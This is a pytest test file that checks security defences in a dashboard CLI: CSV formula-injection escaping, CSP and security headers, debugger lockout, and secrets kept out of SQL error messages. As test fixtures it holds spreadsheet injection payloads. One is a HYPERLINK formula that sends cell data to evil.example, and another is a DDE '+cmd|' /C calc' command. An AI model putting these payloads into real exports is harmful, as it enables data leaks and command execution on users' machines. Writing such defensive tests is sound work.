"""Security basics found against `cxdash serve`: CSV cells a spreadsheet would run as formulas,
security headers and a request log on every response, no Werkzeug debugger behind --debug, and
SQL sources whose ${VAR} secrets are URL-encoded and never shown in an error."""
from __future__ import annotations

import contextlib
import csv
import io
import json
import logging
import os
import signal
import subprocess
import sys
import urllib.error
import urllib.request

import pytest
from click.testing import CliRunner
from sqlalchemy import insert
from sqlalchemy.engine import make_url

from cxdash.cli import main
from cxdash.db.models import IndicatorValue, ScoreCell
from cxdash.errors import UserError
from cxdash.exports.chart_image import table_csv
from cxdash.exports.csv_safety import safe_cell
from cxdash.sources import Location, SourceConfig, resolved_files

from .serving import first_page, free_port
from .signing import add_account, fill_sign_in_form, signed_in_client

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
SUM = "-2+3"


# --- 1. CSV formula injection ------------------------------------------------------------------

def _cell(**values):
    row = {"fiscal_year": 2023, "fiscal_quarter": 1, "provider": HYPERLINK, "service": SUM, "channel": "@SUM(A1)",
           "stage": "\tcmd", "question": "trust", "scale": "likert", "n": 120, "mean": 4.1, "pct_agree": 0.8,
           "ci_low": 0.72, "ci_high": 0.86, "suppressed": False}
    return {**row, **values}


@pytest.fixture
def hostile_db(engine):
    """Scores and indicators whose names would run in a spreadsheet, and a negative change."""
    with engine.begin() as conn:
        conn.execute(insert(ScoreCell), [_cell(), _cell(question="ease", provider="+cmd|' /C calc'!A0")])
        conn.execute(insert(IndicatorValue), [
            {"indicator": "backlog_change", "fiscal_year": 2023, "fiscal_quarter": 1, "provider": HYPERLINK,
             "service": SUM, "channel": "all", "stage": "all", "value": -2.5, "n": 40, "unit": "cases"},
            {"indicator": "=1+1", "fiscal_year": 2023, "fiscal_quarter": 1, "provider": "Plain provider",
             "service": "-", "channel": "all", "stage": "all", "value": -0.0001234, "n": 3, "unit": "days"}])
    return engine.url.render_as_string(hide_password=False)


def _cli(*args):
    result = CliRunner().invoke(main, list(args))
    assert result.exit_code == 0, result.output
    return result.output


def test_scores_csv_escapes_text_that_reads_as_a_formula(hostile_db):
    rows = list(csv.DictReader(io.StringIO(_cli("scores", "--db", hostile_db))))
    trust = next(r for r in rows if r["question"] == "trust")
    assert trust["provider"] == "'" + HYPERLINK
    assert trust["service"] == "'-2+3"
    assert trust["channel"] == "'@SUM(A1)" and trust["stage"] == "'\tcmd"
    assert next(r for r in rows if r["question"] == "ease")["provider"] == "'+cmd|' /C calc'!A0"
    assert (trust["n"], trust["mean"], trust["suppressed"]) == ("120", "4.1", "false")  # numbers stay numbers
    # JSON is not read by spreadsheets: the names stay as stored.
    assert {r["provider"] for r in json.loads(_cli("scores", "--format", "json", "--db", hostile_db))} == {
        HYPERLINK, "+cmd|' /C calc'!A0"}


def test_indicators_csv_escapes_names_and_keeps_negative_numbers(hostile_db):
    rows = list(csv.DictReader(io.StringIO(_cli("indicators", "--db", hostile_db))))
    change = next(r for r in rows if r["indicator"] == "backlog_change")
    assert (change["provider"], change["service"]) == ("'" + HYPERLINK, "'-2+3")
    assert change["value"] == "-2.5" and float(change["value"]) == -2.5  # a number, not "'-2.5"
    other = next(r for r in rows if r["provider"] == "Plain provider")
    assert other["indicator"] == "'=1+1" and other["service"] == "'-"
    assert float(other["value"]) == pytest.approx(-0.0001234)


def test_chart_csv_download_escapes_text_cells_only():
    from cxdash.dashboard.callbacks import chart_file
    spec = {"title": "Trust by service", "takeaway": "", "figure": {},
            "rows": [["Service", "Change", "Note"], [HYPERLINK, "-2.1", "-2.1 points"], [SUM, "+3%", "@x"],
                     ["Plain", "-1,234.5", None]]}
    parsed = list(csv.reader(io.StringIO(chart_file({"format": "csv"}, spec)["content"])))
    assert parsed == [["Service", "Change", "Note"], ["'" + HYPERLINK, "-2.1", "'-2.1 points"],
                      ["'-2+3", "+3%", "'@x"], ["Plain", "-1,234.5", ""]]
    # numbers given as numbers are written as numbers, negative ones too
    assert list(csv.reader(io.StringIO(table_csv([["a", "b"], [-2.5, 0]])))) == [["a", "b"], ["-2.5", "0"]]


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "-", "=", "-2.1 pts"])
def test_safe_cell_prefixes_formula_starts(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Plain", "", "-2", "+2.5", "-1.5%", "-1e3", "1,234", "2+2", -3, -2.5, None, True])
def test_safe_cell_leaves_numbers_and_plain_text(value):
    assert safe_cell(value) == value


# --- 2. security headers and a request log ------------------------------------------------------

HEADERS = {"X-Frame-Options": "DENY", "X-Content-Type-Options": "nosniff", "Referrer-Policy": "same-origin"}


@pytest.fixture(scope="module")
def dash_app(computed_sqlite, catalogue):
    from cxdash.dashboard.app import create_app
    add_account(computed_sqlite)
    return create_app(computed_sqlite, catalogue)  # sign-in on, as by default


def test_every_route_carries_the_security_headers(dash_app, caplog):
    client = signed_in_client(dash_app)  # signed in; anonymous answers: tests/test_sign_in.py
    page = client.get("/")
    assert page.status_code == 200
    suite = next(line.split('src="')[1].split('"')[0] for line in page.text.splitlines()
                 if "_dash-component-suites" in line and 'src="' in line)
    responses = {"/": page}
    with caplog.at_level(logging.INFO, logger="cxdash.dashboard.requests"):
        for path in ("/_dash-layout", "/_dash-dependencies", "/assets/zz-cxdash/cxdash.css", suite, "/journey",
                     "/no-such-page", "/assets/no-such-file.css"):
            responses[path] = client.get(path)
        responses["POST /_dash-update-component"] = client.post("/_dash-update-component", json={"bad": 1})
    for path, response in responses.items():
        for name, value in HEADERS.items():
            assert response.headers.get(name) == value, (path, name)
        csp = response.headers.get("Content-Security-Policy", "")
        assert "frame-ancestors 'none'" in csp and "default-src 'self'" in csp, path
        assert "'unsafe-inline'" not in csp.split("script-src")[1].split(";")[0], path
    assert responses["/_dash-layout"].status_code == 200 and responses["/assets/no-such-file.css"].status_code == 404
    logged = [r.getMessage() for r in caplog.records if r.name == "cxdash.dashboard.requests"]
    assert any(m.startswith("GET /_dash-layout 200 ") and m.endswith(" ms user=analyst") for m in logged), logged
    layout = next(r for r in caplog.records if r.getMessage().startswith("GET /_dash-layout 200 "))
    assert (layout.user, layout.status, layout.path) == ("analyst", 200, "/_dash-layout")  # structured, too
    assert any(m.startswith("GET /assets/no-such-file.css 404 ") for m in logged), logged
    assert any(m.startswith("POST /_dash-update-component ") for m in logged), logged
    assert all(r.levelno == logging.INFO for r in caplog.records if r.name == "cxdash.dashboard.requests")


@pytest.mark.browser
def test_scorecard_renders_under_the_csp_without_violations(dash_duo, computed_sqlite, catalogue):
    from cxdash.dashboard.app import create_app
    username, password = add_account(computed_sqlite)
    dash_duo.start_server(create_app(computed_sqlite, catalogue), navigate=False)
    # The sign-in page (no script of its own) and then the scorecard, both under the policy.
    dash_duo.driver.get(dash_duo.server.url)
    fill_sign_in_form(dash_duo.driver, username, password)
    dash_duo.wait_for_element("#card-vba-contact-trust", timeout=15)
    dash_duo.wait_for_element(".cx-sparkline .main-svg", timeout=15)  # Plotly drew the charts
    dash_duo.wait_for_contains_text("#scorecard-status-takeaway", "Of 10 measures in FY2023 Q1")
    dash_duo.select_dcc_dropdown("#filter-provider", value="Veterans Health Administration")  # callbacks run
    dash_duo.wait_for_contains_text("#scorecard-status-takeaway", "Of 1 measure in FY2023 Q1")
    assert "provider=Veterans+Health+Administration" in dash_duo.driver.current_url  # the clientside callback ran
    logs = dash_duo.get_logs() or []
    assert [e for e in logs if e["level"] == "SEVERE" or "Content Security Policy" in e["message"]] == []
    # The policy is enforced: an injected inline script is refused (and that shows in the console).
    dash_duo.driver.execute_script(
        "var s = document.createElement('script'); s.textContent = 'window.cxInjected = 1;';"
        "document.body.appendChild(s);")
    assert dash_duo.driver.execute_script("return window.cxInjected === undefined")
    assert any("Content Security Policy" in e["message"] for e in dash_duo.get_logs() or [])


# --- 3. --debug never serves Werkzeug's debugger ----------------------------------------------

def test_debug_is_refused_on_a_non_loopback_host(tmp_path):
    result = CliRunner().invoke(main, ["serve", "--debug", "--host", "0.0.0.0", "--db",
                                       f"sqlite:///{tmp_path / 'x.db'}"])
    assert result.exit_code == 1
    assert result.output.strip().startswith("Error: --debug runs Dash's development server")
    assert len(result.output.strip().splitlines()) == 1


def test_debug_error_does_not_return_the_werkzeug_debugger(tmp_path):
    url = f"sqlite:///{tmp_path / 'serve.db'}"
    assert CliRunner().invoke(main, ["init", "--db", url]).exit_code == 0
    port = free_port()
    # its own process group: the development server's reloader runs the app in a child process
    proc = subprocess.Popen([sys.executable, "-m", "cxdash.cli", "serve", "--debug", "--no-sign-in", "--port", str(port),
                             "--db", url],
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, start_new_session=True)
    try:
        status, _ = first_page(f"http://127.0.0.1:{port}/", proc, 90)
        assert status == 200
        failing = urllib.request.Request(f"http://127.0.0.1:{port}/_dash-update-component", data=b'{"bad": 1}',
                                         headers={"Content-Type": "application/json"}, method="POST")
        with pytest.raises(urllib.error.HTTPError) as answer:
            urllib.request.urlopen(failing, timeout=30)
        assert answer.value.code == 500
        body = answer.value.read().decode("utf-8", "replace")
        assert "Werkzeug Debugger" not in body and "__debugger__" not in body and "Traceback" not in body
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/?__debugger__=yes&cmd=resource&f=debugger.js",
                                    timeout=30) as response:
            page = response.read().decode()  # the dashboard's page, not the debugger's script
            assert "_dash-config" in page and "EVALEX" not in page and "Werkzeug Debugger" not in page
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(proc.pid, signal.SIGTERM)  # the server and its reloader's child
        proc.wait(timeout=20)


# --- 4. SQL sources: ${VAR} URL-encoded, failures one line without the secret -----------------

PASSWORD = "s3cr@t:p@ss/w#rd?x"


def _sql_source(url: str, sql: str = "SELECT 'a' AS x") -> SourceConfig:
    return SourceConfig(name="warehouse", kind="cases", mapping="boston-311", location=Location(sql=sql, url=url))


def test_sql_failure_is_one_line_without_the_password(monkeypatch, tmp_path):
    monkeypatch.setenv("CX_TEST_DB_PASSWORD", PASSWORD)
    source = _sql_source("postgresql+psycopg://reader:${CX_TEST_DB_PASSWORD}@127.0.0.1:1/cxdash_test")
    with pytest.raises(UserError) as failed:
        with resolved_files(source, tmp_path):
            pass
    message = str(failed.value)
    assert "\n" not in message and message.startswith("source warehouse: ")
    assert "127.0.0.1" in message and "reader" in message  # where it tried, with the password hidden
    for part in [PASSWORD, *PASSWORD.split("@"), "p@ss", "ss/w", "s3cr"]:
        assert part not in message, part


def test_bad_query_is_one_line(tmp_path):
    source = _sql_source(f"sqlite:///{tmp_path / 'empty.db'}", "SELECT * FROM no_such_table")
    with pytest.raises(UserError, match=r"^source warehouse: SQL on sqlite:///.* failed: .*no such table") as failed:
        with resolved_files(source, tmp_path):
            pass
    assert "\n" not in str(failed.value)


def test_env_values_in_a_postgresql_url_are_encoded(monkeypatch, tmp_path, postgres_url):
    server = make_url(postgres_url)
    monkeypatch.setenv("CX_TEST_DB_USER", server.username)
    monkeypatch.setenv("CX_TEST_DB_NAME", server.database)
    # The test server trusts its clients, so any password logs in: the URL only works when the
    # password's @ and : stay inside it instead of moving the host.
    monkeypatch.setenv("CX_TEST_DB_PASSWORD", PASSWORD)
    url = (f"{server.drivername}://${{CX_TEST_DB_USER}}:${{CX_TEST_DB_PASSWORD}}@{server.host}:{server.port}/"
           "${CX_TEST_DB_NAME}")
    with resolved_files(_sql_source(url, "SELECT 'x@y' AS who, 2 AS n"), tmp_path) as files:
        assert len(files) == 1
        assert files[0].read_text().splitlines() == ["who,n", "x@y,2"]
